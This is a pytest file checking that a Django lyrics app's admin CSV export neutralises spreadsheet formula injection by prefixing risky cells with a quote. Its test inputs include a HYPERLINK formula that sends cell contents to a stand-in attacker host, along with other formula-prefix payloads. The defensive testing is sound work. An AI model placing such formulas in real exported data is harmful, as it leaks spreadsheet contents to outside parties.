"""CSV export: cells a spreadsheet would run as formulas are neutralised (OWASP)."""

import csv
import io

import pytest

from lyricsapp.admin.exports import csv_cell
from tests.api_helpers import make_task

CHANGELIST = "/admin/lyricsapp/task/"
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def export_rows(admin_client, tasks):
    response = admin_client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [t.pk for t in tasks]}
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_it_neutralises_formulas_in_every_text_cell(admin_client, formula):
    task = make_task(
        formula[:128].replace(" ", "").replace("\t", "").replace("\r", "") or "t",
        msg=formula,
        lyrics=[
            {"title": formula, "text": formula, "status": "complete", "error_message": formula}
        ],
    )
    text, [row] = export_rows(admin_client, [task])
    for column in ("msg", "lyric_title", "lyric_text", "lyric_error_message"):
        assert row[column] == "'" + formula
    assert row["task_id"] == "'" + task.task_id if task.task_id[0] in "=+-@" else task.task_id
    # Every cell quoted, so a separator in a formula cannot open a new cell.
    assert text.splitlines()[0].startswith('"task_id",')


@pytest.mark.django_db
def test_it_leaves_ordinary_text_and_numbers_alone(admin_client):
    task = make_task(
        "plain", code=-1, lyrics=[{"title": "星夜 = night", "text": "a-b", "status": "complete"}]
    )
    _, [row] = export_rows(admin_client, [task])
    assert (row["lyric_title"], row["lyric_text"], row["code"]) == ("星夜 = night", "a-b", "-1")


@pytest.mark.parametrize(
    "value, expected",
    [("=1", "'=1"), ("x=1", "x=1"), ("", ""), (None, None), (-5, -5), ("'=1", "'=1")],
)
def test_it_prefixes_only_text_starting_with_a_formula_character(value, expected):
    assert csv_cell(value) == expected
